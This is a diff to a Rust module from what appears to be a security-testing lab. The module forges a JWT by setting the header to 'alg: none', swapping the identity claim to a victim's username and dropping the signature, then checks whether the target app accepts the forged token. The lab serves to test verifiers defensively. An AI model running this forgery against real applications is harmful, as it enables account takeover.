@@ -5,9 +5,10 @@
 //! `{"alg": "none"}` and drops the signature. A verifier that reads the
 //! algorithm from the token itself believes it; one that checks HS256
 //! whatever the header says refuses it, and server-side sessions hand out
-//! no token to rewrite.
+//! no token to rewrite. Against a target file's app, the token and its
+//! identity claim are found as `forged-cookie` finds them.
 
-use crate::actors::{judge, log_in, probe_account, read_own_note, session_id, short, token_cookie};
+use crate::actors::{OwnToken, judge, log_in, own_token, probe_account, read_own_note, short};
 use crate::lab::{RunContext, RunError, plant_cookie};
 use crate::outcome::{Actor, Verdict};
 use crate::tokens;
@@ -24,48 +25,33 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
 
     let mut attacker = ctx.browser(Actor::Attacker, "attacker");
     log_in(ctx, &mut attacker, &ctx.attacker).await?;
-    let action = format!(
-        "logged in as {} and looked in his own cookies for a token",
-        ctx.attacker.username
-    );
-    let Some((name, value)) = token_cookie(&attacker) else {
-        let id = session_id(ctx, &attacker).unwrap_or_default();
-        let evidence = format!(
-            "his cookies hold no token, only the session ID {}: there is no token to rewrite",
-            short(&id)
-        );
-        let step = ctx.step(Actor::Attacker, action, &evidence);
-        return Ok(Verdict::blocked(evidence, step));
+    let OwnToken {
+        cookie,
+        jwt,
+        identity_claim,
+    } = match own_token(ctx, &attacker, "there is no token to rewrite") {
+        Ok(found) => found,
+        Err(verdict) => return Ok(verdict),
     };
-    let jwt =
-        tokens::decode(&value).ok_or_else(|| RunError::Lab("the token stopped decoding".into()))?;
-    ctx.step(
-        Actor::Attacker,
-        action,
-        format!(
-            "cookie {name} is a JWT: header {}, claims {}",
-            serde_json::Value::Object(jwt.header.clone()),
-            serde_json::Value::Object(jwt.claims.clone())
-        ),
-    );
 
     let mut claims = jwt.claims.clone();
-    claims.insert("sub".into(), ctx.victim.username.clone().into());
+    claims.insert(identity_claim.clone(), ctx.victim.username.clone().into());
     let rewritten = tokens::unsigned(&claims);
-    let account = ctx.app_url("/account");
+    let proof = ctx.proof_url();
     let mut forger = ctx.browser(Actor::Attacker, "attacker-unsigned");
-    plant_cookie(&mut forger, &account, &name, &rewritten);
-    let probe = probe_account(&mut forger, account).await?;
+    plant_cookie(&mut forger, &proof, &cookie, &rewritten);
+    let probe = probe_account(&mut forger, proof).await?;
     Ok(judge(
         ctx,
         &format!(
-            "rewrote the token: header {{\"alg\": \"none\"}}, \"sub\": \"{}\", no signature; opened /account with it",
-            ctx.victim.username
+            "rewrote the token: header {{\"alg\": \"none\"}}, \"{identity_claim}\": \"{}\", no signature; opened {} with it",
+            ctx.victim.username,
+            ctx.target.proof_path()
         ),
         &probe,
         &note,
         &format!(
-            "a token rewritten to alg none and sub {} ({})",
+            "a token rewritten to alg none and {identity_claim} {} ({})",
             ctx.victim.username,
             short(&rewritten)
         ),
